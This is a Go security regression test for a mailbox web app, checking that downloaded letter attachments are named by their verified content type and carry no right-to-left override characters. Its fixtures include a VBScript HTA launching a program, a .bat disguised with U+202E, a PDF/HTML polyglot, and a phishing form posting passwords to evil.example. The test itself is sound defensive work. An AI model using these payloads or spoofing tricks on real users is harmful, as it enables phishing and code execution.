package resident_test

import (
	"html"
	"mime"
	"net/http"
	"path"
	"strings"
	"testing"
	"unicode"

	"github.com/postkasse/postkasse/httpui/internal/apptest"
	"github.com/postkasse/postkasse/httpui/internal/uitest"
)

// TestDownloadNameMatchesType: a document is saved under a name that ends
// in the extension of the type its content was checked against, without
// bidirectional controls, and the letter page shows that name. (Found by
// the security review: the name was the sender's, with any extension and
// any Unicode format character. Only the content is checked against the
// declared type, so a "text/plain" document — any UTF-8 text: a batch
// file, an HTA, a script, an HTML page with scripts that were never
// sanitised because it was not declared HTML — was saved as "….hta" or
// "….html" by the Download button, and with U+202E (RIGHT-TO-LEFT
// OVERRIDE, a format character that isText lets through) the letter page
// showed the name with a harmless-looking ending.) Refusing such a
// delivery is fine too.
func TestDownloadNameMatchesType(t *testing.T) {
	t.Parallel()
	e := apptest.NewEnv(t, apptest.Options{})
	e.AddResident(uitest.NIDAnna, "Anna Jensen")
	s := e.AddSender("Nordlys Energi", "31572290")
	b := e.Browser()
	e.Login(b, e.HTTPURL, uitest.NIDAnna)

	for _, tc := range []struct {
		ref, name, contentType, wantExt string
		content                         []byte
	}{
		{"hta", "Faktura-2026.hta", "text/plain", ".txt",
			[]byte(`<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>`)},
		{"html", "kvittering.html", "text/plain", ".txt",
			[]byte(`<form action="https://evil.example/">Password: <input name=p></form><script>alert(1)</script>`)},
		{"bidi", "Faktura\u202Efdp.bat", "text/plain", ".txt", []byte("@echo off\r\nstart calc\r\n")},
		{"pdf polyglot", "brev.html", "application/pdf", ".pdf",
			[]byte("%PDF-1.4\n<html><script>alert(document.domain)</script>\n%%EOF\n")},
	} {
		t.Run(tc.ref, func(t *testing.T) {
			msg := uitest.LetterMessage(uitest.NIDAnna, "Your invoice", "review-"+tc.ref)
			ct, body := uitest.RawNameMultipart(msg, tc.name, tc.contentType, tc.content)
			r := e.DeliverRaw(s.Client, ct, body)
			if r.StatusCode == http.StatusBadRequest || r.StatusCode == http.StatusUnsupportedMediaType {
				return // refused at delivery: fine
			}
			if r.StatusCode != http.StatusCreated {
				t.Fatalf("deliver: %d %s", r.StatusCode, r.Text)
			}
			id := uitest.DecodeJSON[struct {
				ID string `json:"id"`
			}](t, r).ID
			d := e.Get(b, e.HTTPURL+"/letters/"+id+"/documents/0?download=1")
			if d.StatusCode != http.StatusOK {
				t.Fatalf("download: %d", d.StatusCode)
			}
			_, params, err := mime.ParseMediaType(d.Header.Get("Content-Disposition"))
			if err != nil {
				t.Fatalf("Content-Disposition %q: %v", d.Header.Get("Content-Disposition"), err)
			}
			saved := params["filename"]
			if ext := strings.ToLower(path.Ext(saved)); ext != tc.wantExt {
				t.Errorf("a %s document is saved as %q (extension %q), want %q", tc.contentType, saved, ext, tc.wantExt)
			}
			if strings.IndexFunc(saved, func(r rune) bool { return unicode.Is(unicode.Cf, r) }) >= 0 {
				t.Errorf("the saved name %q has a Unicode format (bidi) character", saved)
			}
			// The letter page shows the name the document is saved under.
			page := e.Get(b, e.HTTPURL+"/letters/"+id)
			if !strings.Contains(page.Text, `<span class="document-name">`+html.EscapeString(saved)+`</span>`) {
				t.Errorf("the letter page does not show the saved name %q", saved)
			}
			if strings.ContainsRune(page.Text, '\u202E') {
				t.Error("the letter page shows U+202E")
			}
		})
	}
}
